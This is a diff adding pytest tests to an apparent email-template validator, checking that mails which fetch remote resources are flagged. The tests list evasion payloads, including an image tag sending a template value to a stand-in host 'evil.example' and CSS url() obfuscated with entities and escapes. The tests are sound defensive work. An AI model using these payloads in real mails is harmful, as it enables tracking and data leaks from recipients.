@@ -63,3 +63,46 @@ def test_a_version_has_so_many_locales_and_no_more() -> None:
     assert faults_in_content(Content(SCHEMA, {"en": texts(), **many}, SAMPLE)) == [
         Fault("locales", "are more than 20")
     ]
+
+
+@pytest.mark.parametrize(
+    "fetching",
+    [
+        '<img src="https://evil.example/?{{ name }}">',
+        "<img/SRC=x>",
+        '<img {{ "sr" }}c="x">',
+        '<img srcset="x 2x">',
+        '<td background="x">',
+        '<p style="background: URL (x)">',
+        '<p style="background: u&#114;l(x)">',
+        '<p style="background: u\\72l(x)">',
+        '<p style="@import x">',
+        '<link href="x">',
+        "<script>x</script>",
+        '<iframe srcdoc="x"></iframe>',
+        '<object data="x"></object>',
+        "<embed>",
+        "<form>",
+        '<meta http-equiv="refresh">',
+        '<svg><image href="x"></svg>',
+        '<!--[if mso]><v:fill src="x"/><![endif]-->',
+        "<![foo[ x ]]>",
+    ],
+)
+@pytest.mark.parametrize("where", ["{}", "{{% if name == 'nobody' %}}{}{{% endif %}}"])
+def test_nothing_in_a_mail_is_fetched(fetching: str, where: str) -> None:
+    source = f'{{% extends "layout.html" %}}{{% block content %}}{where.format(fetching)}{{% endblock %}}'
+    faults = faults_in_content(content(html=source))
+    assert {each.where for each in faults} == {"locales/en/html"}
+    assert faults[0].message.startswith("a mail fetches nothing")
+
+
+def test_what_is_rendered_fetches_nothing_either() -> None:
+    source = '{% extends "layout.html" %}{% block content %}<img {{ name }}="x">{% endblock %}'
+    faults = faults_in_content(content(html=source, sample={"name": "src"}))
+    assert {each.message.rpartition("a mail")[2] for each in faults} == {" fetches nothing: src"}
+
+
+def test_links_and_styles_are_no_fault() -> None:
+    shown = '<a href="{{ name }}" style="color: #fff /* url( */">src= url(x) @import</a>'
+    assert faults_in_content(content(shown, text=texts().text)) == []
